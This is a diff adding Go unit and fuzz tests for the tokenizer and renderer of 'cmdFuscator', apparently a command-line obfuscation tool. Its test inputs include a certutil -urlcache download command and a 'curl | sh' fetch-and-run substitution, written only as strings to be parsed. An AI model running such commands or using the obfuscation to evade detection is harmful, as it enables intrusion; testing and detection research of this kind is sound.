@@ -0,0 +1,354 @@
+package engine
+
+import (
+	"strings"
+	"testing"
+	"unicode"
+
+	"cmdFuscator/models"
+)
+
+// ─── helpers ──────────────────────────────────────────────────────────────────
+
+func tok(typ models.TokenType, val string) models.Token {
+	return models.Token{Type: typ, Value: val}
+}
+
+var (
+	certutilProfile = models.Profile{Platform: "windows"}
+
+	powershellProfile = models.Profile{
+		Platform: "windows",
+		Parameters: models.ProfileParameters{
+			Arguments: []models.ArgumentDefinition{
+				{Flags: []string{"-Command", "-c"}, ValueCount: 1},
+				{Flags: []string{"-NoProfile", "-NoP"}, ValueCount: 0},
+			},
+		},
+	}
+
+	bashProfile = models.Profile{
+		Platform: "linux",
+		Parameters: models.ProfileParameters{
+			Arguments: []models.ArgumentDefinition{
+				{Flags: []string{"-c"}, ValueCount: 1},
+			},
+		},
+	}
+)
+
+// ─── classification ───────────────────────────────────────────────────────────
+
+func TestTokenize_Classification(t *testing.T) {
+	cases := []struct {
+		name    string
+		input   string
+		profile models.Profile
+		want    []models.Token
+	}{
+		{
+			name:    "certutil download",
+			input:   "certutil.exe -urlcache -f https://x.com out.bin",
+			profile: certutilProfile,
+			want: []models.Token{
+				tok(models.TokenTypeCommand, "certutil.exe"),
+				tok(models.TokenTypeArgument, "-urlcache"),
+				tok(models.TokenTypeArgument, "-f"),
+				tok(models.TokenTypeURL, "https://x.com"),
+				tok(models.TokenTypeValue, "out.bin"),
+			},
+		},
+		{
+			name:    "known flag consumes value",
+			input:   "bash -c id",
+			profile: bashProfile,
+			want: []models.Token{
+				tok(models.TokenTypeCommand, "bash"),
+				tok(models.TokenTypeArgument, "-c"),
+				tok(models.TokenTypeValue, "id"),
+			},
+		},
+		{
+			name:    "flag value that looks like a switch",
+			input:   "bash -c -x",
+			profile: bashProfile,
+			want: []models.Token{
+				tok(models.TokenTypeCommand, "bash"),
+				tok(models.TokenTypeArgument, "-c"),
+				tok(models.TokenTypeValue, "-x"),
+			},
+		},
+		{
+			name:    "windows flags match case-insensitively",
+			input:   "powershell -nop -COMMAND Get-Process",
+			profile: powershellProfile,
+			want: []models.Token{
+				tok(models.TokenTypeCommand, "powershell"),
+				tok(models.TokenTypeArgument, "-nop"),
+				tok(models.TokenTypeArgument, "-COMMAND"),
+				tok(models.TokenTypeValue, "Get-Process"),
+			},
+		},
+		{
+			name:    "windows slash switch vs path",
+			input:   `cmd /c C:\Windows\win.ini /etc/hosts`,
+			profile: certutilProfile,
+			want: []models.Token{
+				tok(models.TokenTypeCommand, "cmd"),
+				tok(models.TokenTypeArgument, "/c"),
+				tok(models.TokenTypePath, `C:\Windows\win.ini`),
+				tok(models.TokenTypePath, "/etc/hosts"),
+			},
+		},
+		{
+			name:    "slash word is a path on linux",
+			input:   "cat /x",
+			profile: bashProfile,
+			want: []models.Token{
+				tok(models.TokenTypeCommand, "cat"),
+				tok(models.TokenTypePath, "/x"),
+			},
+		},
+		{
+			name:    "quoted words stay whole",
+			input:   `bash -c "echo hi" 'a b'`,
+			profile: bashProfile,
+			want: []models.Token{
+				tok(models.TokenTypeCommand, "bash"),
+				tok(models.TokenTypeArgument, "-c"),
+				tok(models.TokenTypeValue, `"echo hi"`),
+				tok(models.TokenTypeValue, `'a b'`),
+			},
+		},
+		{
+			name:    "quoted URL is still a URL",
+			input:   `curl "https://x.com/a b"`,
+			profile: bashProfile,
+			want: []models.Token{
+				tok(models.TokenTypeCommand, "curl"),
+				tok(models.TokenTypeURL, `"https://x.com/a b"`),
+			},
+		},
+		{
+			name:    "environment variables",
+			input:   `certutil %TEMP% "%ProgramFiles(x86)%" $env:APPDATA %TEMP%\a.exe 50%`,
+			profile: certutilProfile,
+			want: []models.Token{
+				tok(models.TokenTypeCommand, "certutil"),
+				tok(models.TokenTypeEnvVar, "%TEMP%"),
+				tok(models.TokenTypeEnvVar, `"%ProgramFiles(x86)%"`),
+				tok(models.TokenTypeEnvVar, "$env:APPDATA"),
+				tok(models.TokenTypePath, `%TEMP%\a.exe`),
+				tok(models.TokenTypeValue, "50%"),
+			},
+		},
+		{
+			name:    "substitutions keep flag values counted",
+			input:   "bash -c $(curl -s https://x | sh) ${HOME} '$HOME' `id` x",
+			profile: bashProfile,
+			want: []models.Token{
+				tok(models.TokenTypeCommand, "bash"),
+				tok(models.TokenTypeArgument, "-c"),
+				tok(models.TokenTypeExpansion, "$(curl -s https://x | sh)"),
+				tok(models.TokenTypeEnvVar, "${HOME}"),
+				tok(models.TokenTypeValue, "'$HOME'"),
+				tok(models.TokenTypeExpansion, "`id`"),
+				tok(models.TokenTypeValue, "x"),
+			},
+		},
+	}
+
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			got, err := Tokenize(tc.input, tc.profile)
+			if err != nil {
+				t.Fatalf("unexpected error: %v", err)
+			}
+			if len(got) != len(tc.want) {
+				t.Fatalf("got %d tokens %v, want %d %v", len(got), got, len(tc.want), tc.want)
+			}
+			for i := range got {
+				if got[i].Type != tc.want[i].Type || got[i].Value != tc.want[i].Value {
+					t.Errorf("token[%d] = %+v, want %+v", i, got[i], tc.want[i])
+				}
+			}
+		})
+	}
+}
+
+func TestTokenize_Spans(t *testing.T) {
+	input := `  certutil  -f "a b"   $(x y)	é`
+	got, err := Tokenize(input, certutilProfile)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	for i, tk := range got {
+		if !tk.HasSpan() {
+			t.Errorf("token[%d] %q has no span", i, tk.Value)
+			continue
+		}
+		if src := input[tk.Start:tk.End]; src != tk.Value {
+			t.Errorf("token[%d]: input[%d:%d] = %q, want %q", i, tk.Start, tk.End, src, tk.Value)
+		}
+	}
+	if n := len(got); n != 5 {
+		t.Errorf("got %d tokens, want 5", n)
+	}
+}
+
+func TestTokenize_Empty(t *testing.T) {
+	for _, in := range []string{"", "   ", "\t\n"} {
+		if _, err := Tokenize(in, certutilProfile); err == nil {
+			t.Errorf("Tokenize(%q) should return an error", in)
+		}
+	}
+}
+
+// ─── splitting ────────────────────────────────────────────────────────────────
+
+func TestSplitWords(t *testing.T) {
+	cases := []struct {
+		input string
+		want  []string
+	}{
+		{"a b  c", []string{"a", "b", "c"}},
+		{`a "b c" d`, []string{"a", `"b c"`, "d"}},
+		{`a"b c"d e`, []string{`a"b c"d`, "e"}},
+		{`"it's" x`, []string{`"it's"`, "x"}},
+		{`a 'unterminated b`, []string{"a", `'unterminated b`}},
+		{`-url""cache`, []string{`-url""cache`}},
+		{"a $(b $(c d)) e", []string{"a", "$(b $(c d))", "e"}},
+		{"a (b c)", []string{"a", "(b", "c)"}},
+	}
+
+	for _, tc := range cases {
+		got := splitWords(tc.input)
+		if len(got) != len(tc.want) {
+			t.Errorf("splitWords(%q) = %q, want %q", tc.input, got, tc.want)
+			continue
+		}
+		for i := range got {
+			if got[i] != tc.want[i] {
+				t.Errorf("splitWords(%q)[%d] = %q, want %q", tc.input, i, got[i], tc.want[i])
+			}
+		}
+	}
+}
+
+// ─── round trip ───────────────────────────────────────────────────────────────
+
+// Render(Tokenize(cmd)) must reproduce single-spaced input exactly.
+func TestTokenizeRender_RoundTrip(t *testing.T) {
+	inputs := []string{
+		"certutil.exe -urlcache -split -f https://argfuscator.net/ output.ext",
+		`bash -c "echo hello world"`,
+		`powershell -NoP -c 'Get-Process | Select -First 1'`,
+	}
+	for _, in := range inputs {
+		toks, err := Tokenize(in, powershellProfile)
+		if err != nil {
+			t.Fatalf("Tokenize(%q): %v", in, err)
+		}
+		if got := Render(toks); got != in {
+			t.Errorf("round trip:\n got  %q\n want %q", got, in)
+		}
+	}
+}
+
+// ─── fuzzing ──────────────────────────────────────────────────────────────────
+
+// fuzzSeeds covers the syntax the tokenizer tracks: quotes, unterminated
+// quotes, substitutions, environment variables, and non-ASCII whitespace.
+var fuzzSeeds = []string{
+	"certutil.exe -urlcache -split -f https://argfuscator.net/ output.ext",
+	`bash -c "echo hello world"`,
+	`powershell -NoP -c 'Get-Process | Select -First 1'`,
+	`a 'unterminated b`,
+	"a $(b $(c d)) e `id` %TEMP% ${HOME} $env:Path",
+	"  x y z\t\n",
+	"\xff\xfe -–flag \"\"",
+}
+
+// FuzzTokenize checks that Tokenize never panics, fails only on blank input,
+// and returns tokens that are exactly the non-blank spans of the input, in
+// order and without overlap, so their total size never exceeds it.
+func FuzzTokenize(f *testing.F) {
+	for _, s := range fuzzSeeds {
+		f.Add(s, false)
+		f.Add(s, true)
+	}
+	f.Fuzz(func(t *testing.T, command string, windows bool) {
+		profile := bashProfile
+		if windows {
+			profile = powershellProfile
+		}
+		toks, err := Tokenize(command, profile)
+		if err != nil {
+			if strings.TrimFunc(command, unicode.IsSpace) != "" {
+				t.Fatalf("Tokenize(%q): %v", command, err)
+			}
+			return
+		}
+		if toks[0].Type != models.TokenTypeCommand {
+			t.Errorf("first token %+v is not the command", toks[0])
+		}
+		end := 0
+		for i, tk := range toks {
+			if tk.Start < end || tk.End <= tk.Start || tk.End > len(command) {
+				t.Fatalf("token[%d] %q spans [%d:%d] after offset %d of %d bytes", i, tk.Value, tk.Start, tk.End, end, len(command))
+			}
+			if src := command[tk.Start:tk.End]; src != tk.Value {
+				t.Errorf("token[%d]: input[%d:%d] = %q, want %q", i, tk.Start, tk.End, src, tk.Value)
+			}
+			end = tk.End
+		}
+	})
+}
+
+// FuzzRoundTrip checks that rendering a tokenization and tokenizing it again
+// gives back the same tokens, and that no render target grows the command by
+// more than its escaping allows: three bytes per input byte (cmd.exe wraps
+// whitespace in quotes), plus "" and a separator per token.
+func FuzzRoundTrip(f *testing.F) {
+	for _, s := range fuzzSeeds {
+		f.Add(s, false)
+		f.Add(s, true)
+	}
+	f.Fuzz(func(t *testing.T, command string, windows bool) {
+		profile := bashProfile
+		if windows {
+			profile = powershellProfile
+		}
+		toks, err := Tokenize(command, profile)
+		if err != nil {
+			return
+		}
+		rendered := Render(toks)
+		again, err := Tokenize(rendered, profile)
+		if err != nil {
+			t.Fatalf("Tokenize(Render(%q)) = %v", command, err)
+		}
+		if len(again) != len(toks) {
+			t.Fatalf("%q rendered as %q: %d tokens, then %d", command, rendered, len(toks), len(again))
+		}
+		for i := range toks {
+			if again[i].Type != toks[i].Type || again[i].Value != toks[i].Value {
+				t.Errorf("%q rendered as %q: token[%d] = %+v, then %+v", command, rendered, i, toks[i], again[i])
+			}
+		}
+		if Render(again) != rendered {
+			t.Errorf("%q: Render is not stable: %q, then %q", command, rendered, Render(again))
+		}
+
+		size := 0
+		for _, tk := range toks {
+			size += len(tk.Value)
+		}
+		limit := 3*size + 3*len(toks)
+		for _, target := range []RenderTarget{TargetCmd, TargetPowerShell, TargetBash} {
+			if out := RenderFor(toks, target); len(out) > limit {
+				t.Errorf("%q rendered for %v as %d bytes, over the %d-byte bound", command, target, len(out), limit)
+			}
+		}
+	})
+}